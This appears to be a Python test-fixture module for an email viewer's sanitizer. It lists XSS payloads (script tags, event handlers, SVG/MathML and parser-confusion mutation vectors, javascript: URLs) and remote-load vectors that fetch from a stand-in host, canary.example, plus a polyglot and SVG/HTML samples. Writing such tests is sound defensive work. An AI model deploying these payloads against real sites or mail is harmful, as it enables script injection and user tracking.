"""Mail bodies that run something where a page shows them as they are: they `alert`, or tell a stranger.

The ways are well known (see the classes in the names); the wording is ours. {n} is the vector's number.
"""

from __future__ import annotations

# ruff: noqa: E501  (a vector is one line)

STRANGER = "https://canary.example"

_RUNS = [
    # plain
    "<script>alert({n})</script>",
    "<ScRiPt >alert({n})</sCrIpT >",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<script src='https://canary.example/{n}.js'></script>",
    "<script type=module>alert({n})</script>",
    "<script>/*</script><script>*/alert({n})</script>",
    "<script\x0c>alert({n})</script>",
    "<script>alert({n})<!-- unclosed",
    # handlers that need nobody
    "<img src=x onerror=alert({n})>",
    "<img src=x oNeRrOr=alert({n})>",
    "<img/src=x/onerror=alert({n})>",
    '<img src=x onerror="alert({n})"',
    "<img src='x'onerror='alert({n})'>",
    "<img src=x\nonerror\n=\nalert({n})>",
    "<img src=x onerror=&#97;lert({n})>",
    "<img src=x onerror=eval(atob('YWxlcnQo'.concat(btoa('{n})'))))>",
    "<img src=x:y onerror=alert({n}) alt='\">'>",
    "<image src=x onerror=alert({n})>",
    "<video src=x onerror=alert({n})></video>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})></audio>",
    "<body onload=alert({n})>",
    "<body onpageshow=alert({n})>",
    "<iframe onload=alert({n})></iframe>",
    "<object data=x onerror=alert({n})></object>",
    "<input autofocus onfocus=alert({n})>",
    "<textarea autofocus onfocus=alert({n})></textarea>",
    "<select autofocus onfocus=alert({n})></select>",
    "<a href=# autofocus tabindex=1 onfocus=alert({n})>a</a>",
    "<details open ontoggle=alert({n})>a</details>",
    "<marquee onstart=alert({n})>a</marquee>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart=alert({n})>a</b>",
    "<b style='transition:color .1s' onanimationend=alert({n})>a</b><style>b{{animation:k .1s}}@keyframes k{{}}</style>",
    "<link rel=stylesheet href=https://canary.example/{n}.css onerror=alert({n})>",
    "<style onload=alert({n})></style>",
    # other worlds: SVG, MathML
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})//",
    "<svg><script>alert({n})</script></svg>",
    "<svg><script>&#97;lert({n})</script></svg>",
    "<svg><script href='data:text/javascript,alert({n})'/></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=alert({n}) attributeName=x to=y dur=1s>",
    "<svg><image href=x onerror=alert({n})>",
    "<svg><style><img src=x onerror=alert({n})></style></svg>",
    "<svg><desc><img src=x onerror=alert({n})></desc></svg>",
    "<svg><foreignObject><iframe onload=alert({n})></iframe></foreignObject></svg>",
    "<svg><title><img src=x onerror=alert({n})></title></svg>",
    "<math><mtext><img src=x onerror=alert({n})></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert({n})></annotation-xml></math>",
    # parsers that disagree
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert({n})&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert({n}) src=x>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert({n})>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert({n})>'></xmp>",
    "<title><a title='</title><img src=x onerror=alert({n})>'></title>",
    "<textarea><a title='</textarea><img src=x onerror=alert({n})>'></textarea>",
    "<style><a title='</style><img src=x onerror=alert({n})>'></style>",
    "<iframe><a title='</iframe><img src=x onerror=alert({n})>'></iframe>",
    "<noembed><a title='</noembed><img src=x onerror=alert({n})>'></noembed>",
    "<plaintext></plaintext><img src=x onerror=alert({n})>",
    "<!--><img src=x onerror=alert({n})>-->",
    "<!--!><img src=x onerror=alert({n})>-->",
    "<!-- a --!><img src=x onerror=alert({n})> -->",
    "<![CDATA[><img src=x onerror=alert({n})>]]>",
    "<?xml ><img src=x onerror=alert({n})> ?>",
    "<template><img src=x onerror=alert({n})></template><img src=x onerror=alert({n})>",
    "<table><td background=x><tr><img src=x onerror=alert({n})></table>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert({n})>'>",
    "<b/ x=`<img src=x onerror=alert({n})>`><img src=x onerror=alert({n})>",
    "<a\x00href=x><img\x0csrc=x\x0conerror=alert({n})>",
    # frames and addresses
    "<iframe src='javascript:parent.alert({n})'></iframe>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<iframe src='JaVaScRiPt:parent.alert({n})'></iframe>",
    "<iframe src='java\tscript:parent.alert({n})'></iframe>",
    "<iframe src='&#x6A;avascript:parent.alert({n})'></iframe>",
    "<embed src='javascript:alert({n})'>",
    "<object data='javascript:alert({n})'></object>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/{n}'>",
    "<base href=https://canary.example/><img src={n}.png>",
    "<form action='javascript:alert({n})'><input type=submit autofocus onfocus=this.click()></form>",
]
_FETCHES = [
    "<img src=https://canary.example/{n}.png>",
    "<img srcset='https://canary.example/{n}.png 1x'>",
    "<picture><source srcset=https://canary.example/{n}.webp><img></picture>",
    "<img src=//canary.example/{n}.png>",
    "<img src='/\\canary.example/{n}.png'>",
    "<table background=https://canary.example/{n}.png><td>a</table>",
    "<body background=https://canary.example/{n}.png>",
    "<p style='background:url(https://canary.example/{n}.png)'>a</p>",
    "<p style='background:u\\72l(https://canary.example/{n}.png)'>a</p>",
    "<p style='background-image:image-set(\"https://canary.example/{n}.png\" 1x)'>a</p>",
    "<p style='list-style:url(https://canary.example/{n}.png);display:list-item'>a</p>",
    "<p style='border-image:url(https://canary.example/{n}.png) 1;border:3px solid'>a</p>",
    "<p style='cursor:url(https://canary.example/{n}.cur),auto;content:url(https://canary.example/{n})'>a</p>",
    "<style>p{{background:url(https://canary.example/{n}.png)}}</style><p>a</p>",
    "<style>@import 'https://canary.example/{n}.css';</style>",
    "<style>@import url(https://canary.example/{n}.css);</style>",
    "<style>@font-face{{font-family:f;src:url(https://canary.example/{n}.woff)}}p{{font-family:f}}</style><p>a</p>",
    "<link rel=stylesheet href=https://canary.example/{n}.css>",
    "<link rel=preload as=image href=https://canary.example/{n}.png>",
    "<link rel=prefetch href=https://canary.example/{n}>",
    "<link rel=icon href=https://canary.example/{n}.ico>",
    "<video poster=https://canary.example/{n}.png></video>",
    "<video src=https://canary.example/{n}.mp4 autoplay></video>",
    "<audio src=https://canary.example/{n}.mp3 autoplay></audio>",
    "<iframe src=https://canary.example/{n}></iframe>",
    "<object data=https://canary.example/{n}.svg></object>",
    "<embed src=https://canary.example/{n}.svg>",
    "<input type=image src=https://canary.example/{n}.png>",
    "<svg><image href=https://canary.example/{n}.png></svg>",
    "<svg><use href=https://canary.example/{n}.svg#a></svg>",
    "<svg><feImage href=https://canary.example/{n}.png></svg>",
    "<svg><rect fill='url(https://canary.example/{n}.svg#a)' width=9 height=9></svg>",
]
VECTORS = [
    vector.replace("{{", "{").replace("}}", "}").replace("{n}", str(n))
    for n, vector in enumerate([*_RUNS, *_FETCHES], start=1)
]

# A name, a subject, a file's name: text in every view.
POLYGLOT = "'\"></title></textarea></script><img src=x onerror=alert(0)><svg/onload=alert(0)>"

SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(901)">
<script>alert(902)</script><image href="https://canary.example/903.png"/></svg>"""
HTML = b"<script>alert(904)</script><img src=https://canary.example/905.png>"
